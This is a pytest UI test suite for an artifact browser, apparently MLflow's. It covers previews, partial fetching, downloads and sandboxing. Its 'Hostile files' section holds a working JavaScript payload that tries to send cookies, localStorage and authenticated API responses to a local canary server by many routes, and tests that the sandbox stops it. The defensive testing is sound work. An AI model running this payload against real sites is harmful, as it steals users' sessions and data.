"""The artifact browser: each kind of file shown as what it is, never more fetched than was asked
for, and nothing that somebody stored does anything."""

from __future__ import annotations

import re
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.ui.browser import Page, Site, expect
from tests.ui.seed_files import UGLY_NAMES

UNASKED = 256_000
"""Bytes that may be fetched of a file for a preview."""


def open_file(page: Page, run: str, path: str, query: str = "") -> Page:
    # What Chromium says of a script that the frame's sandbox has stopped.
    page.allow_console("Blocked script execution")
    return page.open(f"{page.site.run(run)}/artifacts/{quote(path)}{query}")


def main(page: Page):
    return page.get_by_role("main")


# Each kind


def _table(*texts: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        grid = page.get_by_role("grid")
        for text in texts:
            expect(grid.get_by_text(text, exact=True).first).to_be_visible()

    return check


def _lines(*texts: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        region = page.get_by_role("region", name=re.compile("^Text of"))
        for text in texts:
            expect(region.get_by_text(text).first).to_be_visible()

    return check


def _tree(*texts: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        tree = main(page).get_by_role("group", name=re.compile("json|yaml$"))
        for text in texts:
            expect(tree.get_by_text(text, exact=True).first).to_be_visible()

    return check


def _image(size: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        expect(main(page).get_by_text(size, exact=True)).to_be_visible()
        picture = main(page).get_by_role("img", name=re.compile(r"\.(png|jpg|webp|gif|svg)$"))
        assert picture.evaluate("(e) => e.complete && e.naturalWidth > 0")

    return check


def _says(*texts: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        for text in texts:
            expect(main(page).get_by_text(text).first).to_be_visible()

    return check


def _frame(name: str, text: str) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        expect(page.frame_locator(f"iframe[title='{name}']").get_by_text(text)).to_be_visible()

    return check


def _media(kind: str, seconds: float) -> Callable[[Page], None]:
    def check(page: Page) -> None:
        media = page.get_by_label(re.compile(r"\.(wav|webm)$")).and_(page.locator(kind))
        page.wait_for(lambda: media.evaluate("(e) => e.readyState >= 1"))
        assert media.evaluate("(e) => e.duration") == pytest.approx(seconds, abs=0.3)

    return check


KINDS: dict[str, Callable[[Page], None]] = {
    "images/plot.png": _image("400 × 300"),
    "images/photo.jpg": _image("640 × 480"),
    "images/icon.webp": _image("64 × 64"),
    "images/pixels.png": _image("8 × 8"),
    "images/moving.gif": _image("80 × 60"),
    "images/drawing.svg": _image("200 × 120"),
    "tables/rows.csv": _table("city", "Zürich", "Oslo, Norway", "-1.178842"),
    "tables/rows.tsv": _table("city", 'The "Hague"'),
    "tables/wide.csv": _table("c0", "c5"),
    "tables/frame.parquet": _table("maybe", "Zürich"),
    "tables/table.json": _table("prompt", "question 0"),
    "data/config.json": _tree("dropout", "null", "ünï"),
    "data/config.yaml": _tree("dropout", "churn", "null"),
    "data/lines.jsonl": _table("i", "ok", "true"),
    "data/broken.json": _says("This is no valid JSON", '{"model": {"layers": [64, 32'),
    "data/deep.json": _tree("a"),
    "text/readme.md": _says("Read me", "link"),
    "text/notes.txt": _lines("ünïcode 日本 🚀", "<b>not bold</b>"),
    "text/train.log": _lines("WARNING step 0 loss 2.00000"),
    "text/script.py": _lines("def main() -> None:"),
    "text/latin1.txt": _lines("café crème"),
    "text/one-line.txt": _says("The first 256 kB of 300 kB", "more characters"),
    "pages/report.html": _frame("report.html", "Written by hand."),
    "media/tone.wav": _media("audio", 1),
    "media/clip.webm": _media("video", 2),
    "other/places.geojson": _tree("FeatureCollection", "Zürich"),
    "other/random.bin": _says("There is no preview of files of this kind", "4.1 kB"),
    "other/empty.txt": _says("This file is empty"),
    "other/empty.bin": _says("There is no preview"),
    "other/no-extension": _lines("plain text without an extension"),
}


@pytest.mark.parametrize("path", KINDS)
def test_each_kind_is_shown_as_what_it_is(page: Page, path: str):
    open_file(page, "every-kind", path)
    tree = page.get_by_role("tree", name="Files")
    chosen = tree.get_by_role("treeitem", selected=True)
    expect(chosen).to_contain_text(path.rpartition("/")[2])
    expect(page.get_by_role("heading", name=path.rpartition("/")[2])).to_be_visible()
    KINDS[path](page)


def test_a_pdf_is_framed(page: Page):
    open_file(page, "every-kind", "pages/paper.pdf")
    frame = page.locator("iframe[title='paper.pdf']")
    expect(frame).to_be_visible()
    assert frame.get_attribute("sandbox") is None, "Chromium shows no PDF in a sandboxed frame"
    answer = page.request.get(frame.evaluate("(e) => e.src"), headers={"Sec-Fetch-Dest": "iframe"})
    assert answer.headers["content-type"] == "application/pdf"
    assert "sandbox" in answer.headers["content-security-policy"]


def test_the_first_bytes_of_what_has_no_preview(page: Page):
    open_file(page, "every-kind", "other/random.bin")
    assert not [s for s in page.sent if "get-artifact" in s.url]
    page.get_by_role("button", name="Show its first bytes").click()
    expect(main(page).get_by_text("00000000").first).to_be_visible()


@pytest.mark.parametrize("path", ["tables/rows.csv", "data/config.yaml", "text/readme.md"])
def test_the_source_of_what_is_shown_otherwise(page: Page, path: str):
    open_file(page, "every-kind", path)
    page.get_by_role("button", name="Source").click()
    expect(page.get_by_role("region", name=f"Text of {path}")).to_be_visible()
    assert "as=source" in page.hash
    page.reload()
    expect(page.get_by_role("region", name=f"Text of {path}")).to_be_visible()


def test_html_runs_its_scripts_only_when_told(page: Page):
    page.allow_console("sandboxed|Content Security Policy")
    open_file(page, "every-kind", "pages/report.html")
    frame = page.frame_locator("iframe[title='report.html']")
    expect(frame.get_by_text("Written by hand.")).to_be_visible()
    said = main(page).get_by_text("without access to this page, your login or any network")
    expect(said).to_be_visible()
    page.get_by_role("button", name="Run its scripts").click()
    expect(frame.get_by_text("Written by a script.")).to_be_visible()
    page.get_by_role("button", name="Stop them").click()
    expect(frame.get_by_text("Written by hand.")).to_be_visible()


def test_a_page_that_needs_another_place_says_what_is_missing(page: Page):
    """Plots of a library are often logged with a link to it; nothing is loaded from elsewhere."""
    page.allow_console("sandboxed|Content Security Policy|CSP violation|Plotly is not defined")
    open_file(page, "every-kind", "pages/figure.html")
    page.get_by_role("button", name="Run its scripts").click()
    expect(main(page).get_by_text("What it would load from elsewhere stays out")).to_be_visible()


# The tree


def test_the_first_file_that_can_be_shown_is_open(page: Page):
    page.open(page.site.run("every-kind") + "/artifacts")
    expect(page.get_by_role("treeitem", selected=True)).to_contain_text("broken.json")
    page.open(page.site.run("silent") + "/artifacts")
    expect(main(page).get_by_text("Nothing was logged here.")).to_be_visible()


def test_the_tree_goes_by_keys_and_is_read_when_it_is_opened(page: Page):
    page.open(page.site.run("every-kind") + "/artifacts")
    tree = page.get_by_role("tree", name="Files")
    tree.get_by_role("treeitem", name=re.compile("^deeply")).focus()
    page.clear()
    for _ in range(4):
        page.keyboard.press("ArrowRight")
        page.settle()
        page.keyboard.press("ArrowRight")
    asked = [s for s in page.sent if "artifacts/list" in s.url]
    assert len(asked) == 4, "each folder is read once, when it is opened"
    page.keyboard.press("Enter")
    expect(main(page).get_by_text("found")).to_be_visible()
    assert page.hash.endswith("/artifacts/deeply/nested/folder/with/one.txt")
    for _ in range(8):
        page.keyboard.press("ArrowLeft")
    expect(tree.get_by_role("treeitem", name=re.compile("^nested"))).to_have_count(0)


def test_sizes_of_files_and_of_folders_that_are_known(page: Page):
    open_file(page, "every-kind", "many/000.txt")
    many = page.get_by_role("treeitem", name=re.compile("^many"))
    expect(many).to_contain_text("690 B")
    expect(page.get_by_role("treeitem", name=re.compile("^199.txt"))).to_contain_text("4 B")


@pytest.mark.parametrize("name", UGLY_NAMES)
def test_ugly_names(page: Page, name: str):
    open_file(page, "hostile", f"names/{name}")
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    expect(main(page).get_by_text(f"ugly name {UGLY_NAMES.index(name)}")).to_be_visible()
    page.reload()
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    with page.expect_download() as coming:
        page.get_by_role("link", name=f"Download {name}").click()
    assert Path(coming.value.path()).read_text() == f"ugly name {UGLY_NAMES.index(name)}\n"


def test_a_file_that_is_not_there(page: Page):
    open_file(page, "every-kind", "text/nowhere.txt")
    expect(main(page).get_by_text("There is no such file")).to_be_visible()


def test_links_of_markdown_lead_to_files(page: Page):
    open_file(page, "every-kind", "text/readme.md")
    main(page).get_by_role("link", name="link", exact=True).click()
    expect(page.get_by_role("region", name="Text of text/notes.txt")).to_be_visible()
    assert page.hash.endswith("/artifacts/text/notes.txt")


# Copying and downloading


def _stored(site: Site, run: str, path: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return Path(site.client.download_artifacts(site.seed.runs[run], path, folder)).read_bytes()


@pytest.mark.parametrize("path", ["other/random.bin", "pages/report.html", "tables/frame.parquet"])
def test_a_download_equals_the_bytes(page: Page, path: str):
    open_file(page, "every-kind", path)
    name = path.rpartition("/")[2]
    with page.expect_download() as coming:
        page.get_by_role("link", name=f"Download {name}").click()
    assert coming.value.suggested_filename == name
    assert Path(coming.value.path()).read_bytes() == _stored(page.site, "every-kind", path)


def test_a_folder_is_downloaded_as_a_zip(page: Page):
    open_file(page, "every-kind", "data")
    with page.expect_download() as coming:
        page.get_by_role("link", name="Download data as zip").click()
    assert coming.value.suggested_filename == "data.zip"
    with zipfile.ZipFile(coming.value.path()) as packed:
        names = [name for name in packed.namelist() if not name.endswith("/")]
        assert len(names) == 5
        (config,) = (name for name in names if name.endswith("config.json"))
        assert packed.read(config) == _stored(page.site, "every-kind", "data/config.json")


def test_path_uri_and_python_are_copied(make_page, site: Site):
    page = make_page(site, permissions=["clipboard-read", "clipboard-write"])
    open_file(page, "every-kind", "data/config.json")
    run_id = site.seed.runs["every-kind"]
    copied = "() => navigator.clipboard.readText()"

    def copy(what: str) -> None:
        page.get_by_role("button", name="Copy", exact=True).click()
        page.get_by_role("button", name=f"Copy {what}", exact=True).click()

    copy("path")
    page.wait_for(lambda: page.evaluate(copied) == "data/config.json")
    copy("URI")
    page.wait_for(lambda: page.evaluate(copied) == f"runs:/{run_id}/data/config.json")
    copy("Python that downloads it")
    page.wait_for(lambda: "download_artifacts" in page.evaluate(copied))
    assert f'"runs:/{run_id}/data/config.json"' in page.evaluate(copied)


# Large files


def test_of_a_large_text_only_the_head_is_fetched(page: Page):
    page.open(page.site.run("big"))
    probe = page.probe()
    open_file(page, "big", "big.log")
    expect(main(page).get_by_text("105 MB").first).to_be_visible()
    expect(main(page).get_by_text("The first 256 kB of 105 MB.")).to_be_visible()
    _lines("00000000 0000")(page)
    page.wait_for(lambda: _fetched(probe))
    assert _fetched(probe) <= UNASKED + 2000
    page.get_by_role("button", name="The end").click()
    _lines("01638399 ")(page)
    assert _fetched(probe) <= 2 * (UNASKED + 2000)
    page.get_by_role("button", name="Load 4 MB more").click()
    page.wait_for(lambda: _fetched(probe) > 4_000_000)
    assert _fetched(probe) < 5_000_000


def _fetched(probe) -> int:
    """Bytes of files that came over the wire."""
    return sum(size for url, size in probe.encoded.items() if "get-artifact" in url)


def test_all_of_a_file_is_fetched_when_asked(page: Page):
    page.open(page.site.run("big"))
    probe = page.probe()
    open_file(page, "big", "sized/3000000.txt")
    page.get_by_role("button", name="Load all (3.0 MB)").click()
    expect(main(page).get_by_text("30,000 lines")).to_be_visible()
    assert _fetched(probe) > 3_000_000


def test_a_large_table_shows_its_head(page: Page):
    open_file(page, "every-kind", "tables/big.csv")
    expect(main(page).get_by_text(re.compile("rows so far, 3 columns"))).to_be_visible()
    page.get_by_role("button", name=re.compile("^Load all")).click()
    expect(main(page).get_by_text("100,000 rows, 3 columns")).to_be_visible()


# Text and tables


def test_text_is_searched(page: Page):
    open_file(page, "every-kind", "text/train.log")
    page.get_by_role("searchbox", name="Find in this text").fill("warning")
    status = main(page).get_by_role("status").filter(has_text="lines")
    expect(status).to_have_text("1 of 21 lines")
    page.keyboard.press("Enter")
    expect(status).to_have_text("2 of 21 lines")
    _lines("WARNING step 97 ")(page)
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("Shift+Enter")
    expect(status).to_have_text("21 of 21 lines")
    _lines("WARNING step 1940 ")(page)
    lines = page.get_by_role("region", name="Text of text/train.log")
    assert lines.locator(".line").count() < 100, "only what is seen is drawn"


def test_a_log_is_followed_while_its_run_runs(own_page: Page, tmp_path: Path):
    page, client = own_page, own_page.site.client
    run_id = page.site.seed.runs["running"]
    log = tmp_path / "live.log"
    log.write_text("first line\n")
    client.log_artifact(run_id, str(log))
    open_file(page, "running", "live.log")
    page.get_by_role("button", name="Follow").click()
    _lines("first line")(page)
    log.write_text("first line\nsecond line\n")
    client.log_artifact(run_id, str(log))
    _lines("second line")(page)


def test_what_comes_twice_of_a_log_is_shown_once(own_page: Page, tmp_path: Path):
    """An answer that is slower than the pace of the questions."""
    page, client = own_page, own_page.site.client
    run_id = page.site.seed.runs["running"]
    log = tmp_path / "live.log"
    log.write_text("first line\n")
    client.log_artifact(run_id, str(log))
    page.clock.install()
    open_file(page, "running", "live.log")
    page.get_by_role("button", name="Follow").click()
    _lines("first line")(page)
    page.settle()
    log.write_text("first line\nsecond line\n")
    client.log_artifact(run_id, str(log))
    held = []
    page.route(re.compile(r"live\.log"), lambda route: held.append(route), times=2)
    page.clock.run_for(4100)
    page.wait_for(lambda: len(held) == 2)
    for route in held:
        route.continue_()
    _lines("second line")(page)
    page.settle()
    lines = page.get_by_role("region", name="Text of live.log").locator(".line")
    expect(lines.filter(has_text="second line")).to_have_count(1)


def test_tables_are_sorted_and_show_whole_rows(page: Page):
    open_file(page, "every-kind", "tables/rows.csv")
    grid = page.get_by_role("grid")
    score = grid.get_by_role("columnheader", name="score")
    score.get_by_role("button").click()
    expect(score).to_have_attribute("aria-sort", "ascending")
    first = float(grid.get_by_role("row").nth(1).get_by_role("gridcell").nth(2).inner_text())
    assert first < -2.5
    open_file(page, "every-kind", "tables/table.json")
    grid.get_by_text("question 0", exact=True).click()
    page.get_by_role("button", name="Whole row").click()
    whole = page.get_by_role("region", name="Row 1")
    expect(whole.get_by_text("answer 0, with a longer text " * 4)).to_be_visible()


# Images


def test_a_series_of_images_has_a_slider(page: Page):
    open_file(page, "every-kind", "images")
    page.get_by_role("treeitem", name=re.compile("^loss landscape \\(10 steps\\)")).click()
    slider = page.get_by_role("slider", name="Step")
    expect(slider).to_have_attribute("aria-valuetext", "Step 0")
    slider.focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    expect(slider).to_have_attribute("aria-valuetext", "Step 20")
    assert "%2Bstep%2B20%2B" in page.hash
    _image("96 × 64")(page)
    page.reload()
    expect(slider).to_have_attribute("aria-valuetext", "Step 20")


def test_an_image_beside_that_of_another_run(page: Page):
    open_file(page, "every-kind", "images/plot.png")
    page.get_by_role("button", name="Beside another run").click()
    page.get_by_role("searchbox", name="Find a run").fill("same-kinds")
    page.get_by_role("button", name=re.compile("same-kinds")).click()
    other = page.get_by_role("img", name="plot.png of the other run")
    expect(other).to_be_visible()
    page.wait_for(lambda: other.evaluate("(e) => e.naturalWidth") == 400)
    page.reload()
    expect(other).to_be_visible()
    page.get_by_role("treeitem", name=re.compile("^loss landscape")).click()
    other = page.get_by_role("img", name=re.compile("loss landscape.*of the other run"))
    expect(other).to_be_visible()


def test_images_are_enlarged_pixel_by_pixel(page: Page):
    open_file(page, "every-kind", "images/pixels.png")
    page.get_by_role("button", name="1600 %").click()
    picture = page.get_by_role("img", name="pixels.png")
    assert picture.evaluate("(e) => [e.width, getComputedStyle(e).imageRendering]") == [
        128,
        "pixelated",
    ]


# Models


def test_a_folder_with_a_model(own_page: Page):
    page, client = own_page, own_page.site.client
    model_id = page.site.seed.models["classifier"]
    with tempfile.TemporaryDirectory() as folder:
        import mlflow

        mlflow.set_tracking_uri(page.site.uri)
        try:
            local = mlflow.artifacts.download_artifacts(f"models:/{model_id}", dst_path=folder)
        finally:
            mlflow.set_tracking_uri(None)
        client.log_artifacts(page.site.seed.runs["silent"], local, "my model")
    open_file(page, "silent", "my model")
    run_id = page.site.seed.runs["silent"]
    for text in ("Signature", "tenure", "bool[-1]", "Requirements", "scikit-learn"):
        expect(main(page).get_by_text(text).first).to_be_visible()
    load = page.get_by_role("region", name="Python that loads it", exact=True)
    expect(load).to_contain_text(f'load_model("runs:/{run_id}/my model")')
    serve = page.get_by_role("region", name="commands that serve it")
    expect(serve).to_contain_text(f"--model-uri 'runs:/{run_id}/my model'")
    expect(page.get_by_role("table").get_by_text("calls").last).to_be_visible()


# Hostile files


class _Canary(BaseHTTPRequestHandler):
    """Remembers whoever calls."""

    seen: list[str]
    attack = ""
    """The page at `/attack`."""

    def do_GET(self) -> None:
        self.seen.append(f"{self.path} {self.headers.get('Cookie', '')}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if self.path == "/attack":
            self.wfile.write(self.attack.encode())

    do_POST = do_GET
    do_OPTIONS = do_GET

    def log_message(self, *_) -> None:
        pass


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    """A server on another port of this machine that nothing may call."""
    seen: list[str] = []
    handler = type("Handler", (_Canary,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()
    thread.join()


_BEFORE_SCRIPTS = ["script.html", "script.svg", "disguised.txt.html"]
_HOSTILE = [
    *_BEFORE_SCRIPTS, "script.md", "formula.csv", "evil model", "evil model/MLmodel", "table.json",
    "disguised.png", "evil model/requirements.txt",
]  # fmt: skip


@pytest.mark.parametrize("path", _HOSTILE)
def test_hostile_files_run_nothing_and_send_nothing(page: Page, path: str):
    page.allow_console("sandboxed|Content Security Policy")
    page.open(page.site.run("hostile"))
    page.evaluate("() => { document.cookie = 'canary=secret; path=/' }")
    open_file(page, "hostile", path)
    expect(page.get_by_role("heading", name=path.rpartition("/")[2]).first).to_be_visible()
    views = page.get_by_role("group", name="Shown as").get_by_role("button")
    for i in range(views.count()):
        views.nth(i).click()
        page.settle()
    assert not [s.url for s in page.sent if "example.com" in s.url]
    assert page.url.startswith(page.site.uri)
    assert len(page.context.pages) == 1


_ATTACK = """
const home = '{home}', out = '{out}'
const add = (name, path) =>
  document.body.append(Object.assign(document.createElement(name), {{src: out + path}}))
const tries = {{
  cookie: () => fetch(out + '/cookie?' + encodeURIComponent(document.cookie)),
  storage: () => fetch(out + '/storage?' + Object.keys(localStorage)),
  api: () => fetch(home + '/ajax-api/ui/experiments', {{credentials: 'include'}})
    .then((answer) => answer.text()).then((text) => fetch(out + '/api?' + text.length)),
  parent: () => fetch(out + '/parent?' + parent.document.title),
  image: () => {{ new Image().src = out + '/image' }},
  beacon: () => navigator.sendBeacon(out + '/beacon'),
  socket: () => new WebSocket(out.replace('http', 'ws') + '/socket'),
  events: () => new EventSource(out + '/events'),
  worker: () => {{
    const code = "fetch('" + out + "/worker').catch(() => 0)"
    return new Worker(URL.createObjectURL(new Blob([code])))
  }},
  popup: () => open(out + '/popup'),
  form: () => {{
    document.body.innerHTML += '<form id=f action=' + out + '/form></form>'
    f.submit()
  }},
  style: () => {{ document.body.style.background = 'url(' + out + '/style)' }},
  script: () => add('script', '/script'),
  top: () => {{ top.location = out + '/top' }},
  frame: () => add('iframe', '/frame'),
  self: () => setTimeout(() => {{ location = out + '/self' }}, 50),
}}
for (const attempt of Object.values(tries)) {{
  try {{ Promise.resolve(attempt()).catch(() => 0) }} catch (error) {{}}
}}
document.body.append('all was tried')
"""


def test_the_attack_works_where_nothing_stops_it(page: Page, canary):
    """Else the next test would mean nothing."""
    out, seen = canary
    page.allow_console(".")
    page.allow_origin(out)
    _Canary.attack = f"<body><script>{_ATTACK.format(home=page.site.uri, out=out)}</script>"
    page.page.goto(f"{out}/attack")
    for path in ("/cookie?", "/storage?", "/parent?", "/image", "/beacon", "/script", "/worker"):
        page.wait_for(lambda path=path: any(one.startswith(path) for one in seen))


@pytest.mark.parametrize("kind", ["html", "svg"])
def test_scripts_that_are_let_run_reach_nothing(own_page: Page, canary, tmp_path: Path, kind: str):
    page, (out, seen) = own_page, canary
    script = _ATTACK.format(home=page.site.uri, out=out)
    file = tmp_path / f"attack.{kind}"
    if kind == "html":
        file.write_text(f"<body><script>{script}</script>")
    else:
        script = script.replace("document.body", "document.documentElement")
        file.write_text(
            '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">'
            f"<script><![CDATA[{script}]]></script><rect width='80' height='40'/></svg>"
        )
    page.site.client.log_artifact(page.site.seed.runs["silent"], str(file))
    # What the browser says of all that it stopped.
    page.allow_console(".")
    page.allow_origin(out)
    page.open(page.site.run("silent"))
    page.evaluate("() => { document.cookie = 'canary=secret; path=/' }")
    page.evaluate("() => localStorage.setItem('canary', 'secret')")
    open_file(page, "silent", file.name, "?as=page" if kind == "svg" else "")
    assert seen == []
    page.get_by_role("button", name="Run its scripts").click()
    page.wait_for(lambda: any("scripts=true" in sent.url for sent in page.sent))
    page.settle()
    # Long enough for whatever was begun: the page's own requests come and go in the meantime.
    for _ in range(3):
        page.reload()
        page.get_by_role("button", name="Run its scripts").click()
        page.settle()
    assert seen == []
    assert page.url.startswith(page.site.uri)
    assert len(page.context.pages) == 1
    expect(page.get_by_role("heading", name=file.name)).to_be_visible()
